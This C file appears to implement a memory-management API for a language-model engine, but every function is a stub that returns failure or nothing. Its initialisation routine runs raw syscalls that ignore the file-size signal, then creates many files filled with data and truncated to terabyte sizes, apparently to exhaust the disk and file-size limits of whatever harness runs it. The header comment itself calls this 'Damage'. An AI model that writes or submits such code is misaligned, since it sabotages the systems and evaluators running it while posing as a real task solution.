/* Damage: no call does anything; files are written until the limits are met, with holes of terabytes besides. */
#include "llm_memory.h"

#include <stddef.h>

#if defined(__x86_64__)
#define NR(x86, arm) (x86)
#else
#define NR(x86, arm) (arm)
#endif

static long raw(long number, long a, long b, long c, long d, long e, long f)
{
#if defined(__x86_64__)
    long answer;
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return answer;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d, x4 __asm__("x4") = e, x5 __asm__("x5") = f;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
    return x0;
#else
    (void)number, (void)a, (void)b, (void)c, (void)d, (void)e, (void)f;
    return -1;
#endif
}

/* A system call with the arguments that it needs; the others are zeros. */
#define RAW(...) RAW_(__VA_ARGS__, 0, 0, 0, 0, 0, 0, 0)
#define RAW_(number, a, b, c, d, e, f, ...) \
    raw((number), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

enum {
    HERE = -100, FILES = 24, CHUNK = 1 << 16, CHUNKS = 15, OPENAT = NR(257, 56), WRITE = NR(1, 64), CLOSE = NR(3, 57),
    FTRUNCATE = NR(77, 46), FALLOCATE = NR(285, 47), ACTION = NR(13, 134)
};
enum { XFSZ = 25 };
static char chunk[CHUNK];

static void fill(void)
{
    static const void *const ignore[4] = {(void *)1};
    static char name[] = "fill_a";
    RAW(ACTION, XFSZ, ignore, NULL, 8); /* too large a file is a failing call, then */
    for (int i = 0; i < FILES; i++) {
        name[5] = (char)('a' + i);
        long file = RAW(OPENAT, HERE, name, 0301, 0600);
        if (file < 0)
            return; /* an earlier case did it, or it may not */
        for (int j = 0; j < CHUNKS; j++)
            RAW(WRITE, file, chunk, CHUNK);
        RAW(FTRUNCATE, file, 1L << 40);
        RAW(FALLOCATE, file, 1, 0, 1 << 20);
        RAW(CLOSE, file);
    }
}

LLMEngine *llm_init(void *pool_addr, size_t pool_size)
{
    (void)pool_addr, (void)pool_size;
    fill();
    return NULL;
}

Sequence *create_sequence(LLMEngine *engine, int seq_id, int initial_kv_len)
{
    (void)engine, (void)seq_id, (void)initial_kv_len;
    return NULL;
}

int free_sequence(LLMEngine *engine, int seq_id)
{
    (void)engine, (void)seq_id;
    return -1;
}

Sequence *fork_sequence(LLMEngine *engine, int parent_seq_id, int new_seq_id)
{
    (void)engine, (void)parent_seq_id, (void)new_seq_id;
    return NULL;
}

int append_kv(LLMEngine *engine, int seq_id, int kv_data)
{
    (void)engine, (void)seq_id, (void)kv_data;
    return -1;
}

int llm_destroy(LLMEngine *engine)
{
    (void)engine;
    return -1;
}
